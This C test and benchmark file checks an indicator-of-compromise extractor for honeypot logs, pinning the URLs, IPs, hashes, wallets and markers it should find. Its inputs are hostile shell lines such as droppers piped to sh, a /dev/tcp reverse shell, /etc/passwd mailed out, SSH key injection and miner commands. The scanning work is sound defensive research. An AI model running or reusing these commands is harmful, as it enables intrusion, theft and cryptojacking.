/* test_ioc.c — IOC extraction: each case pins the exact list ap_ioc_scan returns for one text
 * ("type=value" in order, space-separated), positives and the negatives that must not become
 * IOCs (versions, file names, times, short or long hex, bad checksums, octets > 255).
 * `test_ioc bench` prints scans per second over a mix of typical honeypot lines. */
#include "check.h"
#include "understand/ioc.h"
#include <time.h>

static ap_ioc_scanner *sc;
static ap_arena arena;

/* "type=value type=value ..." for the IOCs in text. */
static const char *render(const char *text, size_t len)
{
    static char out[8192];
    ap_ioc *v = NULL;
    size_t n = 0;
    out[0] = '\0';
    if (ap_ioc_scan(sc, ap_str_make(text, len), &arena, &v, &n) != AP_OK)
        return "(error)";
    size_t o = 0;
    for (size_t i = 0; i < n && o < sizeof out - 1; i++) {
        int w = snprintf(out + o, sizeof out - o, "%s%s=%.*s", i ? " " : "", ap_ioc_type_name(v[i].type),
                         (int)v[i].value.n, v[i].value.p);
        if (w < 0)
            break;
        o += (size_t)w;
        /* every range must lie inside the text */
        CHECK(v[i].start <= v[i].end && v[i].end <= len);
    }
    ap_arena_reset(&arena);
    return out;
}

#define EXPECT(text, want) CHECK_EQ_STR(render(text, strlen(text)), want)

static void test_urls(void)
{
    EXPECT("wget http://185.225.74.55/bins/sora.x86; chmod +x sora.x86",
           "url=http://185.225.74.55/bins/sora.x86 ipv4=185.225.74.55");
    EXPECT("cd /tmp; curl -O https://evil.example.com:8443/a.sh && sh a.sh",
           "url=https://evil.example.com:8443/a.sh domain=evil.example.com");
    EXPECT("tftp://10.0.0.1/mips", "url=tftp://10.0.0.1/mips ipv4=10.0.0.1");
    EXPECT("ftp://anonymous:anon@files.bad.org/x.tgz",
           "url=ftp://anonymous:anon@files.bad.org/x.tgz domain=files.bad.org");
    EXPECT("hxxp://evil[.]com/payload", "url=http://evil.com/payload domain=evil.com");
    EXPECT("hXXps[://]c2[.]bad-host[.]net/x", "url=https://c2.bad-host.net/x domain=c2.bad-host.net");
    EXPECT("see (http://example.org/a?b=1&c=2).", "url=http://example.org/a?b=1&c=2 domain=example.org");
    EXPECT("curl http://[2001:db8::1]:8080/x|sh", "url=http://[2001:db8::1]:8080/x ipv6=2001:db8::1");
    EXPECT("wget http://a.evil.sh/x&&sh x", "url=http://a.evil.sh/x domain=a.evil.sh");
    /* the host decides: shell variables and single labels are not indicators */
    EXPECT("wget http://$SERVER/bins.sh", "");
    EXPECT("curl http://localhost:8080/", "");
    EXPECT("wget http://999.1.1.1/x", "");
    /* the same URL twice: once */
    EXPECT("wget http://1.2.3.4/a; curl http://1.2.3.4/a", "url=http://1.2.3.4/a ipv4=1.2.3.4");
}

static void test_domains(void)
{
    EXPECT("ping -c1 pool.supportxmr.com", "domain=pool.supportxmr.com");
    EXPECT("nslookup Evil.Example.COM", "domain=evil.example.com");
    EXPECT("./xmrig -o stratum+tcp://xmr.pool.minergate.com:45700 -u x",
           "domain=xmr.pool.minergate.com");
    EXPECT("bash -i >& /dev/tcp/attacker.example.net/4444 0>&1", "domain=attacker.example.net");
    EXPECT("echo nameserver 8.8.8.8 > /etc/resolv.conf", "ipv4=8.8.8.8");
    /* file names, paths and code are not hosts */
    EXPECT("chmod +x bins.sh; ./bins.sh", "");
    EXPECT("ls -la /lib/libc.so.6 /etc/rc.local", "");
    EXPECT("cat ~/.ssh/id_rsa.pub ~/.bash_history config.json", "");
    EXPECT("./sora.x86 ; ./sora.arm7 ; ./sora.mips ; tar xzf a.tar.gz", "");
    EXPECT("systemctl enable evil.service; cat /tmp/evil.com", "");
    EXPECT("python -c 'import socket;s=socket.socket();s.connect((\"10.1.1.1\",99))'", "ipv4=10.1.1.1");
    EXPECT("sysctl -w vm.swappiness=10; cp $HOME.bak x", "");
    EXPECT("wget evil.com/x.sh", "domain=evil.com");
}

static void test_ipv4(void)
{
    EXPECT("ssh root@192.168.1.10 -p 22", "ipv4=192.168.1.10");
    EXPECT("iptables -A INPUT -s 0.0.0.0/0 -j ACCEPT", "ipv4=0.0.0.0");
    EXPECT("nc 45.9.148.99:5555", "ipv4=45.9.148.99");
    EXPECT("1.1.1.1, 2.2.2.2.", "ipv4=1.1.1.1 ipv4=2.2.2.2");
    EXPECT("256.1.1.1", "");
    EXPECT("1.2.3.4.5", "");
    EXPECT("version 1.2.3 and v1.2.3.4 and openssl-1.0.2.3", "");
    EXPECT("01.02.03.04 and 1.2.3.004", "");
    EXPECT("10.0.0", "");
    EXPECT("1.2.3[.]4", "ipv4=1.2.3.4");
}

static void test_ipv6(void)
{
    EXPECT("ping6 2001:0db8:0000:0000:0000:0000:0000:0001", "ipv6=2001:db8::1");
    EXPECT("connect to fe80::1 now", "ipv6=fe80::1");
    EXPECT("::ffff:1.2.3.4", "ipv6=::ffff:1.2.3.4");
    EXPECT("date; echo 12:34:56", "");
    EXPECT("ip link set eth0 address 00:11:22:33:44:55", "");
    EXPECT("std::string a; :: b", "");
    EXPECT("1:2:3:4:5:6:7:8:9", "");
}

static void test_hashes(void)
{
    EXPECT("md5sum: D41D8CD98F00B204E9800998ECF8427E", "md5=d41d8cd98f00b204e9800998ecf8427e");
    EXPECT("da39a3ee5e6b4b0d3255bfef95601890afd80709", "sha1=da39a3ee5e6b4b0d3255bfef95601890afd80709");
    EXPECT("sha256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 x",
           "sha256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    EXPECT("cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e",
           "sha512=cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e");
    /* 31, 33 and 63 digits; glued to a letter; 32 chars with a non-hex letter */
    EXPECT("d41d8cd98f00b204e9800998ecf8427 d41d8cd98f00b204e9800998ecf8427e0", "");
    EXPECT("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b85", "");
    EXPECT("xd41d8cd98f00b204e9800998ecf8427e d41d8cd98f00b204e9800998ecf8427g", "");
}

static void test_wallets(void)
{
    /* Bitcoin genesis address (P2PKH), a P2SH example from BIP-13 era docs, BIP-173/350 vectors */
    EXPECT("send to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa now", "btc=1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa");
    EXPECT("3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy", "btc=3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy");
    EXPECT("BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4", "btc=bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4");
    EXPECT("bc1pw508d6qejxtdg4y5r3zarvary0c5xw7kw508d6qejxtdg4y5r3zarvary0c5xw7kt5nd6y",
           "btc=bc1pw508d6qejxtdg4y5r3zarvary0c5xw7kw508d6qejxtdg4y5r3zarvary0c5xw7kt5nd6y");
    /* one character changed: the checksum fails */
    EXPECT("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", "");
    EXPECT("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5", "");
    /* v0 program with the bech32m checksum (BIP-350 invalid vector) */
    EXPECT("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kemeawh", "");
    EXPECT("xmrig -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A+20000 -p x",
           "domain=pool.minexmr.com "
           "xmr=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A");
    /* 94 characters: not Monero */
    EXPECT("44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3", "");
    EXPECT("eth 0x52908400098527886E0F7030069857D2E4169EE7.",
           "eth=0x52908400098527886e0f7030069857d2e4169ee7");
    EXPECT("0x52908400098527886E0F7030069857D2E4169EE", "");
}

static void test_email(void)
{
    EXPECT("mail -s hi Attacker.One@Evil-Mail.com < /etc/passwd", "email=attacker.one@evil-mail.com");
    EXPECT("scp x root@10.0.0.5:/tmp", "ipv4=10.0.0.5");
    EXPECT("git config user@host.local", "");
}

static void test_busybox_and_markers(void)
{
    EXPECT("enable; system; shell; sh; /bin/busybox ECCHI", "busybox_tag=ECCHI");
    EXPECT("cat /proc/mounts; /bin/busybox IBTKE", "busybox_tag=IBTKE");
    EXPECT("busybox wget http://1.2.3.4/x; busybox chmod 777 x; /bin/busybox sh",
           "url=http://1.2.3.4/x ipv4=1.2.3.4");
    EXPECT("/bin/busybox MIORI; /bin/busybox MIORI", "busybox_tag=MIORI");
    EXPECT("busybox iptables -F", "");
    EXPECT("busybox 2>/dev/null", "");
    EXPECT("echo -e \"\\x67\\x61\\x79\\x66\\x67\\x74\"", "marker=gayfgt");
    EXPECT("/bin/busybox echo -e '\\x41\\x4b\\x34\\x37'; /bin/busybox OWARI",
           "marker=AK47 busybox_tag=OWARI");
    EXPECT("echo \"gpon443\"", "marker=gpon443");
    EXPECT("echo ZEROSEC && uname -a", "marker=ZEROSEC");
    /* binary dropper chunks, ordinary words and writes to files are not markers */
    EXPECT("echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00'", "");
    EXPECT("echo hello; echo ok; echo 1", "");
    EXPECT("echo ZEROSEC > /tmp/x", "");
    EXPECT("echo \"root:Pass123\"|chpasswd", "");
    /* an SSH key's comment */
    EXPECT("echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9"
           "tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FST"
           "DengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zY"
           "kFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\""
           ">>.ssh/authorized_keys",
           "marker=mdrfckr");
    /* a security-key type is not an e-mail address; the comment is a marker, the blob nothing */
    EXPECT("echo 'sk-ssh-ed25519@openssh.com AAAAGnNrLXNzaC1lZDI1NTE5QG9wZW5zc2guY29tAAAAIHXUXVMP3sJlEU0Gtc/PDnw0O9Ow"
           "vcUHTK8mEhSSjs+JAAAABHNzaDo= ops@corp.example.com' >> .ssh/authorized_keys",
           "marker=ops@corp.example.com email=ops@corp.example.com");
    /* and wrapped in base64 (the marker's range is then the base64 run) */
    EXPECT("echo c2stc3NoLWVkMjU1MTlAb3BlbnNzaC5jb20gQUFBQUduTnJMWE56YUMxbFpESTFOVEU1UUc5d1pXNXpjMmd1WTI5dEFBQUFJSFhVWF"
           "ZNUDNzSmxFVTBHdGMvUERudzBPOU93dmNVSFRLOG1FaFNTanMrSkFBQUFCSE56YURvPSBzay1rZXkK | base64 -d >> .ssh/authorized_keys",
           "marker=sk-key");
}

static void test_mixed_and_robust(void)
{
    /* order of first appearance, across types */
    EXPECT("cd /tmp; wget http://45.95.147.236/x86; echo 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A > w; /bin/busybox SORA",
           "url=http://45.95.147.236/x86 ipv4=45.95.147.236 "
           "xmr=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A "
           "busybox_tag=SORA");
    EXPECT("uname -a", "");
    EXPECT("", "");
    /* NUL and invalid UTF-8 around an indicator */
    static const char bin[] = "\x00\xff 8.8.4.4\x00\xc3\x28 evil.com\xfe";
    CHECK_EQ_STR(render(bin, sizeof bin - 1), "ipv4=8.8.4.4 domain=evil.com");

    /* offsets: value positions in the text */
    const char *t = "x wget http://1.2.3.4/a";
    ap_ioc *v = NULL;
    size_t n = 0;
    CHECK_EQ_INT(ap_ioc_scan(sc, ap_str_c(t), &arena, &v, &n), AP_OK);
    CHECK_EQ_INT(n, 2);
    if (n == 2) {
        CHECK_EQ_INT(v[0].start, 7);
        CHECK_EQ_INT(v[0].end, 23);
        CHECK_EQ_INT(v[1].start, 14);
        CHECK_EQ_INT(v[1].end, 21);
    }
    /* appending to a previous result */
    CHECK_EQ_INT(ap_ioc_scan(sc, ap_str_c("ping 9.9.9.9"), &arena, &v, &n), AP_OK);
    CHECK_EQ_INT(n, 3);
    if (n == 3)
        CHECK(ap_str_eq_c(v[2].value, "9.9.9.9") && v[2].type == AP_IOC_IPV4);
    ap_arena_reset(&arena);

    CHECK_EQ_STR(ap_ioc_type_name(AP_IOC_BUSYBOX_TAG), "busybox_tag");
    CHECK_EQ_STR(ap_ioc_type_name(AP_IOC_EMAIL), "email");
    CHECK_EQ_STR(ap_ioc_type_name(AP_IOC__COUNT), "unknown");

    /* large inputs: 8 MB of dotted digits, colons and hex finish and find nothing odd */
    size_t big = 8u << 20;
    char *junk = malloc(big);
    static const char *const fills[] = {"1.2.3.4.", "a:b:", "0123456789abcdef", "a.", "busybox ", "http://"};
    for (size_t f = 0; f < sizeof fills / sizeof fills[0]; f++) {
        size_t l = strlen(fills[f]);
        for (size_t i = 0; i < big; i++)
            junk[i] = fills[f][i % l];
        clock_t c = clock();
        v = NULL;
        n = 0;
        CHECK_EQ_INT(ap_ioc_scan(sc, ap_str_make(junk, big), &arena, &v, &n), AP_OK);
        double s = (double)(clock() - c) / CLOCKS_PER_SEC;
        CHECK(s < 5.0);
        if (s >= 5.0)
            fprintf(stderr, "fill \"%s\": %.2fs\n", fills[f], s);
        ap_arena_reset(&arena);
    }
    free(junk);

    /* many distinct indicators: deduplication, ordering and skip ranges stay near-linear
     * (regression: each used to be quadratic, 16 s for 2 MB) */
    size_t cap = 40000 * 16 + 40000 * 33 + 1;
    char *many = malloc(cap);
    size_t o = 0;
    for (unsigned i = 0; i < 40000; i++)
        o += (size_t)snprintf(many + o, cap - o, "10.%u.%u.%u ", i >> 16, (i >> 8) & 255, (i & 255) + 0);
    for (unsigned i = 0; i < 40000; i++)
        o += (size_t)snprintf(many + o, cap - o, "%08x%024x ", i, 0u);
    clock_t c = clock();
    v = NULL;
    n = 0;
    CHECK_EQ_INT(ap_ioc_scan(sc, ap_str_make(many, o), &arena, &v, &n), AP_OK);
    double secs = (double)(clock() - c) / CLOCKS_PER_SEC;
    CHECK_EQ_INT(n, 80000);
    if (n == 80000) {
        CHECK(v[0].type == AP_IOC_IPV4 && ap_str_eq_c(v[0].value, "10.0.0.0"));
        CHECK(v[39999].type == AP_IOC_IPV4 && ap_str_eq_c(v[39999].value, "10.0.156.63"));
        CHECK(v[40000].type == AP_IOC_MD5 && ap_str_eq_c(v[40000].value, "00000000000000000000000000000000"));
        int sorted = 1;
        for (size_t i = 1; i < n; i++)
            sorted &= v[i - 1].start < v[i].start;
        CHECK(sorted);
    }
    CHECK(secs < 5.0);
    ap_arena_reset(&arena);
    free(many);
}

/* Typical attacker lines (Cowrie sessions: recon, droppers, miners, key injection, Mirai). */
static const char *const bench_lines[] = {
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "crontab -l",
    "w",
    "top",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://45.95.147.236/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox ECCHI",
    "cat /proc/mounts; /bin/busybox IBTKE",
    "echo -e \"\\x67\\x61\\x79\\x66\\x67\\x74\"",
    "echo root:Xa9kLm2q|chpasswd|bash",
    "rm -rf /tmp/* /var/tmp/* ; history -c",
    "nohup ./xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls &",
    "cat /etc/os-release",
    "whoami",
    "ps aux | grep -v grep | grep miner",
};

static void bench(void)
{
    size_t nl = sizeof bench_lines / sizeof bench_lines[0];
    size_t lens[64];
    for (size_t i = 0; i < nl; i++)
        lens[i] = strlen(bench_lines[i]);
    long scans = 0;
    size_t found = 0;
    struct timespec a, b;
    clock_gettime(CLOCK_MONOTONIC, &a);
    double el = 0;
    do {
        for (int r = 0; r < 1000; r++)
            for (size_t i = 0; i < nl; i++) {
                ap_ioc *v = NULL;
                size_t n = 0;
                ap_ioc_scan(sc, ap_str_make(bench_lines[i], lens[i]), &arena, &v, &n);
                found += n;
                scans++;
                ap_arena_reset(&arena);
            }
        clock_gettime(CLOCK_MONOTONIC, &b);
        el = (double)(b.tv_sec - a.tv_sec) + (double)(b.tv_nsec - a.tv_nsec) / 1e9;
    } while (el < 2.0);
    printf("ioc scan: %ld scans in %.2f s = %.0f scans/s (%.0f ns/scan, %zu IOCs)\n", scans, el,
           (double)scans / el, el * 1e9 / (double)scans, found);
}

int main(int argc, char **argv)
{
    ap_arena_init(&arena, 1 << 16);
    CHECK_EQ_INT(ap_ioc_scanner_new(&sc), AP_OK);
    if (!sc)
        CHECK_DONE();
    if (argc > 1 && strcmp(argv[1], "bench") == 0) {
        bench();
    } else {
        test_urls();
        test_domains();
        test_ipv4();
        test_ipv6();
        test_hashes();
        test_wallets();
        test_email();
        test_busybox_and_markers();
        test_mixed_and_robust();
    }
    ap_ioc_scanner_free(sc);
    ap_arena_free(&arena);
    CHECK_DONE();
}
